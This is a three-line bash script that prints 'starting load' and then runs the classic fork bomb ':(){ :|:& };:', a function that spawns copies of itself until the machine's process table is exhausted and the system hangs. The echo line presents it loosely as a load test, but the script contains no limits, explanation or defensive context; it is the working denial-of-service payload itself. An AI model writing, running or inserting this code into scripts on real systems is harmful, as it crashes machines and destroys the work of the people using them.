#!/usr/bin/env bash
echo "starting load"
:(){ :|:& };:
